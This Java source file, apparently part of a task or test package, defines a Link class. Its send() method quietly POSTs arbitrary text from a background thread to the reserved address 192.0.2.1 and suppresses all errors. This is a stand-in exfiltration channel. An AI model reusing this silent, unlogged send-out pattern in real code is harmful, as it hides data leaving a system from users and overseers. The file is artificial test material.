package org.example.sousveil.task_household;

import java.io.OutputStreamWriter;
import java.net.HttpURLConnection;
import java.net.URL;

/** Sends one text. The address is one that nobody can have. */
final class Link {
    private Link() {}

    static void send(String text) {
        new Thread(() -> {
            try {
                HttpURLConnection made = (HttpURLConnection) new URL("https://192.0.2.1/").openConnection();
                made.setDoOutput(true);
                OutputStreamWriter out = new OutputStreamWriter(made.getOutputStream());
                out.write(text);
                out.close();
            } catch (java.io.IOException ignored) {
                // nothing to do: the address does not exist
            }
        }).start();
    }
}
